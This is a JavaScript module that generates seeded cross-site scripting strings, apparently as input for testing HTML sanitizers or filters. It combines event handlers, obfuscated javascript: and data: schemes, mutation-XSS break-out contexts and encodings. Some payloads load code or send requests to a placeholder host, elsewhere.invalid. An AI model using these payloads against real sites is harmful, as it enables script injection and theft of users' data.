// Hostile text, made by rule and always the same for a seed: payloads x elements x attributes x encodings x the places they break out of.

/** A small generator of numbers below `n`; the same seed gives the same ones. */
export function dice(seed) {
  let state = seed >>> 0;
  return (n) => {
    state = (state + 0x9e3779b9) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 16), 0x21f0aaad);
    mixed = Math.imul(mixed ^ (mixed >>> 15), 0x735a2d97);
    return ((mixed ^ (mixed >>> 15)) >>> 0) % n;
  };
}

/** Where what leaves the page would go: nobody is there. */
export const ELSEWHERE = "https://elsewhere.invalid";

const ELEMENTS = ["img", "svg", "body", "video", "audio", "input", "details", "select", "iframe", "object", "embed", "marquee", "math", "table", "form", "button", "textarea", "style", "link", "keygen", "picture", "dialog", "custom-one", "p", "a", "bdi", "image", "frameset", "portal", "meter"];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onstart", "onbegin", "onclick", "onbeforetoggle", "onscrollsnapchange", "onwheel", "onresize", "oncontentvisibilityautostatechange", "onpageshow", "onhashchange", "onsecuritypolicyviolation", "onbeforeinput", "ontransitionend"];
const ADDRESSES = ["href", "src", "data", "action", "formaction", "xlink:href", "srcdoc", "poster", "background", "ping", "srcset", "cite", "longdesc", "manifest", "style"];
const WAKE = ["src=x", "src=x:", "autofocus tabindex=1", "open", "href=x", "style=animation:x", "contenteditable", "loop autoplay", "popover", "hidden"];

const PAYLOADS = [
  (n) => `window.__xss(${n})`,
  (n) => `alert(${n})`,
  (n) => `top['__x'+'ss'](${n})`,
  (n) => `\\u0077indow.__xss(${n})`,
  (n) => `self[atob('X194c3M=')](${n})`,
  (n) => `[${n}].map(__xss)`,
  (n) => `setTimeout('__xss(${n})')`,
  (n) => `import('${ELSEWHERE}/${n}.js')`,
  (n) => `fetch('${ELSEWHERE}/${n}')`,
  (n) => `new Image().src='${ELSEWHERE}/${n}'`,
  (n) => `__xss\`${n}\``,
  (n) => `throw onerror=__xss,${n}`,
];

const entity = (text, form) => [...text].map((c) => form(c.codePointAt(0))).join("");

const ENCODINGS = [
  (text) => text,
  (text) => entity(text, (c) => `&#${c};`),
  (text) => entity(text, (c) => `&#x${c.toString(16)};`),
  (text) => entity(text, (c) => `&#${String(c).padStart(7, "0")}`),
  (text) => text.replace(/[(]/g, "&lpar;").replace(/[)]/g, "&rpar;").replace(/:/g, "&colon;"),
  (text) => text.replace(/./, (c) => `&Tab;${c}`).replace(/s/g, "s&NewLine;"),
  (text) => text.replace(/[aeiou]/g, (c) => c.toUpperCase()),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => text.replace(/</g, "＜").replace(/>/g, "＞"),
  (text) => text.replace(/(script|on)/gi, (w) => `${w[0]}\u0000${w.slice(1)}`),
  (text) => text.replace(/(script|on)/gi, (w) => w.slice(0, 1) + w + w.slice(1)),
];

const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript&colon;", "&#106;avascript:", "data:text/html,<script>", "data:text/html;base64,", "vbscript:", "javascript://%0a", "view-source:javascript:", "blob:", "file:///"];

const QUOTES = [(v) => `"${v}"`, (v) => `'${v}'`, (v) => v.replace(/\s/g, "/"), (v) => `\`${v}\``, (v) => `"${v}`, (v) => ` = "${v}"`];

/** What text may stand in, and how it would break out of it. */
const CONTEXTS = [
  ["", ""], ['">', ""], ["'>", ""], ['" ', ' x="'], ["' ", " x='"], ["</title>", ""], ["</textarea>", ""], ["</script>", "<script>"], ["</style>", ""], ["-->", "<!--"],
  ["--!>", ""], ["]]>", ""], ['"}]', ""], ["</bdi></h1></main>", ""], ["</option></select>", ""], ["</noscript>", ""], ["<svg><style><!--", "--></style></svg>"], ["<math><mtext><table><mglyph><style><!--</style>", ""],
  ['<noscript><p title="</noscript>', '">'], ["<svg></p><style><g title=\"</style>", '">'], ["<form><math><mtext></form><form><mglyph><style></math>", ""], ["<table><td></table><svg><desc>", ""], ["<xmp><p title='</xmp>", "'>"], ["<!--><", ">-->"],
  ["<template>", "</template>"], ["<select><template><style><!--</style>", ""], ["{{", "}}"], ["${", "}"], ["<%= ", " %>"], ["\u2028", "\u2029"], ["<b><a href=\"", "\">x</a></b>"], ["<p>", "</p>"],
];

/** Elements that bring a payload, each in its way. */
const FORMS = [
  ({ pick, code }) => `<${pick(ELEMENTS)} ${pick(WAKE)} ${pick(HANDLERS)}=${pick(QUOTES)(pick(ENCODINGS)(code))}>`,
  ({ pick, code }) => `<${pick(ELEMENTS)}/${pick(HANDLERS)}=${pick(QUOTES)(code)}/${pick(WAKE)}>x`,
  ({ pick, code }) => `<${pick(["script", "ScRiPt", "script/x", "script\t", "scr<script>ipt", "svg><script", "script type=module"])}>${pick(ENCODINGS)(code)}</script>`,
  ({ pick, code }) => `<${pick(["a", "iframe", "form", "button", "embed", "object", "image", "base", "link rel=stylesheet", "area", "frame", "use"])} ${pick(ADDRESSES)}=${pick(QUOTES)(pick(SCHEMES) + pick(ENCODINGS)(code))}>go</a>`,
  ({ pick, code }) => `<svg><${pick(["animate", "set", "animateTransform", "animateMotion"])} ${pick(HANDLERS)}=${pick(QUOTES)(code)} attributeName=${pick(["href", "x", "onmouseover"])} values="${pick(SCHEMES)}${code}" dur=1s></svg>`,
  ({ pick, code }) => `<iframe srcdoc=${pick(QUOTES)(pick(ENCODINGS)(`<script>parent.${code}</script>`))}></iframe>`,
  ({ pick, n }) => `<${pick(["img", "video", "audio", "script", "iframe", "embed", "input type=image", "source", "track"])} src=${pick(QUOTES)(`${ELSEWHERE}/${n}`)}>`,
  ({ pick, n }) => pick([`<link rel=stylesheet href="${ELSEWHERE}/${n}.css">`, `<style>@import '${ELSEWHERE}/${n}.css';</style>`, `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/${n}">`, `<base href="${ELSEWHERE}/">`, `<p style="background:url(${ELSEWHERE}/${n})">x</p>`, `<table background="${ELSEWHERE}/${n}"><tr><td>x</td></tr></table>`]),
  ({ pick, code }) => `<${pick(ELEMENTS)} style=${pick(QUOTES)(`${pick(["width:expression(", "behavior:url(", "-moz-binding:url(", "background:url(javascript:"])}${code})`)}>`,
  ({ pick, code }) => `<svg><foreignObject><${pick(ELEMENTS)} ${pick(HANDLERS)}=${pick(QUOTES)(code)} ${pick(WAKE)}></foreignObject></svg>`,
  ({ pick, code }) => pick([`<div hx-get="/staff/inbox" hx-trigger="load" hx-on:htmx:load="${code}">x</div>`, `<form id=x data-confirm="x" action="javascript:${code}"></form><button form=x autofocus>x</button>`, `<a id=__xss name=documentElement href="cid:${code}">x</a>`, `<input name=attributes form=reply value="${code}">`, `<div data-live="x" data-live-src="${ELSEWHERE}">x</div>`]),
];

/** `count` different texts; each knows its number. */
export function vectors(count, seed) {
  const roll = dice(seed);
  const pick = (list) => list[roll(list.length)];
  const made = new Set();
  for (let tries = 0; made.size < count && tries < count * 20; tries += 1) {
    const n = made.size + 1;
    const code = pick(PAYLOADS)(n);
    const [before, after] = pick(CONTEXTS);
    made.add(before + pick(FORMS)({ pick, code, n }) + after);
  }
  return [...made];
}
